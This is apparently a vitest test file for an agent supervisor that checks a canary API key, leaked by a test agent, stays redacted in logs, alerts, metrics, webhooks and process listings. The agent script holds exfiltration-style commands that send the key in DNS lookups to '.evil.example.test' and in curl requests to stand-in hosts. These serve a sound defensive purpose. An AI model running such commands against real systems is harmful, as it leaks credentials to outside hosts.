import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, expect, test } from 'vitest';
import { lab } from '../support/lab.ts';
import { useSupervised } from '../support/supervised.ts';
import { until } from '../support/until.ts';

/**
 * A secret that an agent was given, and that it shouts in every way it has: on its output, on command lines, in names
 * and in requests. Nothing that the supervisor keeps, says or sends may hold it. What the agent itself writes to its
 * output, and the command lines and environments of its own processes, are the agent's: they are looked at nowhere.
 */
const SECRET = `canary${randomBytes(9).toString('hex')}`;
const WORD = `sk-canary${randomBytes(16).toString('hex')}`;
const FACT_MS_MAX = 20_000;

const supervised = useSupervised({ config: { incidents: { logLines: 50 } } });

const keyFile = `${lab.scratch}/canary-${process.pid}.key`;
writeFileSync(keyFile, `${SECRET}\n`, { mode: 0o600 });
afterAll(() => execFileSync('rm', ['-f', keyFile]));

const AGENT = `
echo "on the output: $API_KEY"
echo "encoded: $(printf %s "$API_KEY" | base64) $(printf %s "someone:$API_KEY" | base64)"
sleep 30 & sh -c 'exec sleep 31' "$API_KEY" &
python3 -c 'import time; time.sleep(30)' --token "$API_KEY" &
getent hosts "$API_KEY.evil.example.test"
getent hosts "a.$API_KEY.docs.example.test"
curl -s -m 3 "http://docs.example.test/ok/$API_KEY?key=$API_KEY"
curl -s -m 3 -H "Host: $API_KEY.example.test" "http://docs.example.test/"
curl -s -m 3 "http://203.0.113.66/$API_KEY"
echo ready
sleep 8
while :; do :; done
`;

/** Forms in which it would still be it. */
const FORMS = [
  SECRET,
  SECRET.toUpperCase(),
  Buffer.from(SECRET).toString('base64').replace(/=+$/, ''),
  Buffer.from(SECRET).toString('hex'),
  // Where it was cut.
  SECRET.slice(0, 16),
];

const foundIn = (text: string): readonly string[] =>
  [...FORMS, WORD, WORD.slice(0, 24)].filter((form) => text.toLowerCase().includes(form.toLowerCase()));

function filesBelow(folder: string): readonly string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .map((name) => join(folder, name))
    .filter((path) => statSync(path, { throwIfNoEntry: false })?.isFile() === true);
}

const spooled = (): readonly { readonly where: string; readonly text: string }[] =>
  filesBelow(join(supervised.daemon.state, 'spool')).map((file) => ({
    where: file,
    text: readFileSync(file, 'latin1'),
  }));

/** Command lines and environments of every process that is not one of the agent's own. */
function processTexts(cgroupOfTheRun: string): readonly { readonly where: string; readonly text: string }[] {
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid)
    .flatMap((pid) => {
      try {
        if (readFileSync(`/proc/${pid}/cgroup`, 'utf8').includes(cgroupOfTheRun)) return [];
        return ['cmdline', 'environ'].map((file) => ({
          where: `${file} of ${readFileSync(`/proc/${pid}/comm`, 'utf8').trim()}`,
          text: readFileSync(`/proc/${pid}/${file}`, 'latin1'),
        }));
      } catch {
        // It ended while we looked.
        return [];
      }
    });
}

test('a secret that an agent shouts is in nothing that is kept, said or sent', async () => {
  const inspected = { to: 'docs.example.test:80', inspect: true, requests: ['GET /fine'] };
  const path = supervised.writeProfile({
    name: 'canary',
    command: ['sh', '-c', AGENT],
    budget: { cpu: '3s', denials: '500/1m' },
    egress: { allow: [inspected] },
    more: { secrets: [{ env: 'API_KEY', file: keyFile }] },
  });
  // A checkpoint may be under way beside the incident.
  const patience = { status: 503, headers: { 'retry-after': '3600' } };
  supervised.receiver.answerNext(patience, patience);
  const { runId } = JSON.parse(await supervised.ringfence('run', '--detach', '--json', path)) as { runId: string };
  const running = await supervised.running(runId);
  await until('the agent has shouted', async () => (await supervised.ringfence('logs', runId)).includes('ready'), {
    deadlineMs: FACT_MS_MAX,
  });
  // That it did: the twin without which nothing below would mean anything.
  expect(await supervised.ringfence('logs', runId)).toContain(`on the output: ${SECRET}`);
  const said: { where: string; text: string }[] = [];
  const whole = execFileSync('docker', ['--host', `unix://${lab.dockerSocket}`, 'inspect', running.containerId ?? ''], {
    encoding: 'utf8',
  });
  said.push({ where: 'docker inspect', text: whole });
  const ask = async (...args: readonly string[]): Promise<void> => {
    const { stdout, stderr } = await supervised.daemon.cli(args);
    said.push({ where: `ringfence ${args.join(' ')}`, text: stdout + stderr });
  };
  await ask('ps', '--json');
  await ask('inspect', runId, '--json');
  await ask('why', runId, '--json');
  said.push(...processTexts(runId));
  const { outcome } = await supervised.wait(runId);
  expect(outcome).toMatchObject({ reason: 'budget.cpu' });
  const id = outcome.incidentId ?? '';
  // An alert that has left is no file any more, so it is looked at while its receiver wants patience.
  const waiting = await until('the alert waits in the spool', () => spooled().find(({ text }) => text.includes(id)), {
    deadlineMs: FACT_MS_MAX,
  });
  expect(waiting.text).toContain('secret API_KEY');
  said.push(...spooled());
  await ask('alerts', 'ls', '--json');
  const arrived = (): boolean =>
    supervised.receiver.deliveries.some(({ body, answered }) => answered === 204 && body.includes(id));
  await until(
    'the alert has come',
    async () => {
      await supervised.ringfence('alerts', 'retry');
      return arrived();
    },
    { deadlineMs: FACT_MS_MAX },
  );
  for (const args of [['incidents'], ['incident', id], ['why', runId], ['why', id], ['events'], ['ps', '--all']]) {
    await ask(...args);
    await ask(...args, '--json');
  }
  const metrics = ['--unix-socket', supervised.daemon.socket, '-s', 'http://localhost/v1/metrics'];
  said.push({ where: 'metrics', text: execFileSync('curl', metrics, { encoding: 'utf8' }) });
  for (const { body, headers } of supervised.receiver.deliveries)
    said.push({ where: 'webhook', text: body + JSON.stringify(headers) });
  said.push({ where: 'the log of the daemon', text: supervised.daemon.log() });
  for (const file of filesBelow(supervised.daemon.state))
    said.push({ where: file, text: readFileSync(file, 'latin1') });

  const leaks = said.flatMap(({ where, text }) => foundIn(text).map((form) => `${where}: ${form}`));
  expect(leaks).toEqual([]);
  expect(said.filter(({ where }) => where.includes('ledger-0')).length).toBeGreaterThan(0);
  // It is not that nothing was said: the name of the secret stands where its value was.
  const incident = await supervised.incident(id);
  expect(incident.evidence.logLines[0]).toBe('on the output: «secret API_KEY»');
  expect(incident.evidence.logLines[1]).toMatch(/^encoded: «secret API_KEY» \w+«secret API_KEY»\S*$/);
  expect(JSON.stringify(incident.evidence.lastDenials)).toContain('«secret API_KEY».evil.example.test');
});

test('what looks like a secret on the command line of a launch is not kept either', async () => {
  const path = supervised.writeProfile({
    name: 'canary-argv',
    command: ['sh'],
    budget: { wall: '3s' },
    more: { command: 'any' },
  });
  const words = ['sh', '-c', 'sleep 20', `API_KEY=${WORD}`, '--token', WORD, `-H`, `Authorization: Bearer ${WORD}`];
  const launched = await supervised.daemon.cli(['run', '--detach', '--json', path, '--', ...words]);
  const { runId } = JSON.parse(launched.stdout) as { runId: string };
  const inspected = await supervised.daemon.cli(['inspect', runId, '--json']);
  const { outcome } = await supervised.wait(runId);
  const texts = [
    inspected.stdout,
    await supervised.ringfence('incident', outcome.incidentId ?? '', '--json'),
    await supervised.ringfence('events', '--json'),
    supervised.daemon.log(),
    ...filesBelow(supervised.daemon.state).map((file) => readFileSync(file, 'latin1')),
  ];
  expect(texts.flatMap(foundIn)).toEqual([]);
  expect(JSON.parse(inspected.stdout)).toMatchObject({
    command: ['sh', '-c', 'sleep 20', 'API_KEY=***', '--token', '***', '-H', 'Authorization:***'],
  });
});
